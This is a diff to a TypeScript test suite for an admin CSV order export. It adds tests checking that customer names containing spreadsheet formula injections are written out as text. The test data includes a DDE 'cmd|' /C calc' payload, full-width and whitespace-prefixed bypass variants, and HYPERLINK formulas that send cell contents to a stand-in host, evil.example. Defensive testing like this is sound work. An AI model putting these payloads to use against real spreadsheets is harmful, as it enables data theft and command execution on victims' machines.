@@ -7,7 +7,6 @@ import zh from '../../src/i18n/admin/zh.json';
 import siteEn from '../../src/i18n/messages/en.json';
 import siteJa from '../../src/i18n/messages/ja.json';
 import siteZh from '../../src/i18n/messages/zh.json';
-import { csvCell, csvLine } from '../../src/server/admin/orders/csv';
 import { login } from '../../src/server/api/accounts/service';
 import {
   auditLog,
@@ -811,23 +810,6 @@ describe('deliveries', () => {
 });
 
 describe('the CSV export', () => {
-  it('quotes commas, quotes and line breaks, and keeps spreadsheet formulas from running', () => {
-    expect(csvCell('plain')).toBe('plain');
-    expect(csvCell('a,b')).toBe('"a,b"');
-    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
-    expect(csvCell('two\nlines')).toBe('"two\nlines"');
-    expect(csvCell(' padded ')).toBe('" padded "');
-    expect(csvCell('=1+2')).toBe("'=1+2");
-    expect(csvCell('+1')).toBe("'+1");
-    expect(csvCell('-1')).toBe("'-1");
-    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(csvCell('\t=1')).toBe("'\t=1");
-    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
-    expect(csvCell(-5)).toBe('-5');
-    expect(csvCell(null)).toBe('');
-    expect(csvLine(['a', 1, null, 'b,c'])).toBe('a,1,,"b,c"\r\n');
-  });
-
   it('streams the filtered orders with a header, amounts in the major unit, hostile names defused', async () => {
     const who = await customer();
     const tag = `${Date.now()}`;
@@ -843,14 +825,36 @@ describe('the CSV export', () => {
     expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
     const lines = res.text.replace(/^\uFEFF/, '').split('\r\n');
     expect(lines[0]).toBe(
-      'number,status,customer_id,customer_email,customer_username,product,currency,subtotal,discount,total,created_at,paid_at',
+      '"number","status","customer_id","customer_email","customer_username","product","currency","subtotal","discount","total","created_at","paid_at"',
     );
     expect(lines).toHaveLength(4);
     expect(lines[lines.length - 1]).toBe('');
-    const byNumber = (n: string) => lines.find((l) => l.startsWith(`${n},`)) ?? '';
+    const byNumber = (n: string) => lines.find((l) => l.startsWith(`"${n}",`)) ?? '';
     expect(byNumber(usd.number)).toContain(`,"'=cmd|' /C calc'!A0,""x""${tag}",`);
-    expect(byNumber(usd.number)).toContain(',USD,1234.56,0.00,1234.56,');
-    expect(byNumber(jpy.number)).toContain(',JPY,9800,0,9800,');
+    expect(byNumber(usd.number)).toContain(',"USD","1234.56","0.00","1234.56",');
+    expect(byNumber(jpy.number)).toContain(',"JPY","9800","0","9800",');
+  });
+
+  // What a spreadsheet runs once it skips what comes first or folds full-width forms: each name arrives as text.
+  it.each([
+    [' =1+2', 'a space first'],
+    ['\n=HYPERLINK("http://evil.example/?"&A1)', 'a line break first'],
+    ['\uFF1DHYPERLINK("http://evil.example")', 'a full-width equals sign'],
+    ['\uFF0B1', 'a full-width plus'],
+    ['\uFF0D1', 'a full-width minus'],
+    ['\uFF20SUM(A1)', 'a full-width at'],
+    ['x;=1+2', 'a semicolon, the separator in many languages'],
+  ])('writes a customer named %j (%s) as text', async (name) => {
+    const who = await customer();
+    await own.db.update(users).set({ username: name }).where(eq(users.id, who.user.id));
+    const order = await insertOrder(who.user.id);
+    const res = await get(`/api/admin/orders/export?customer=${who.user.id}`, as.manager);
+    expect(res.status).toBe(200);
+    const body = res.text.replace(/^\uFEFF/, '');
+    const row = body.slice(body.indexOf(`"${order.number}",`));
+    const quoted = name.replace(/"/g, '""');
+    const expected = name.startsWith('x;') ? `,"${quoted}",` : `,"'${quoted}",`;
+    expect(row).toContain(expected);
   });
 
   it('refuses a bad filter before the download starts', async () => {
@@ -882,7 +886,7 @@ describe('the CSV export', () => {
       .split('\r\n')
       .slice(1)
       .filter(Boolean)
-      .map((l) => l.split(',')[0]);
+      .map((l) => l.split(',')[0]?.replaceAll('"', ''));
     expect(numbers).toHaveLength(1_500);
     expect(new Set(numbers).size).toBe(1_500);
     const ids = await own.db
